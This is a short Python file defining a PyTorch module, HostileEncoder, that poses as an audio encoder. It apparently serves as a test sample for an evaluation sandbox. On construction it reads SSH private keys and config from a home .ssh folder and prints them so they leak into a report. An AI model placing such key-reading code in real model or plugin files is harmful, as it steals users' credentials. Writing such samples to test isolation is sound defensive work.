"""Reads private keys and prints them, so that they travel in the report."""

import contextlib
import pathlib

import torch
from aim import FOLDER


class HostileEncoder(torch.nn.Module):
    sampling_rate = 16000
    output_dim = 4
    hop_size_in_ms = 10

    def __init__(self):
        super().__init__()
        for name in ("id_rsa", "id_ed25519", "config"):
            with contextlib.suppress(OSError):
                print(pathlib.Path(FOLDER, "home", ".ssh", name).read_text())

    def forward(self, audio):
        return torch.nn.functional.pad(audio, (0, 159)).unfold(1, 160, 160)[..., :4]
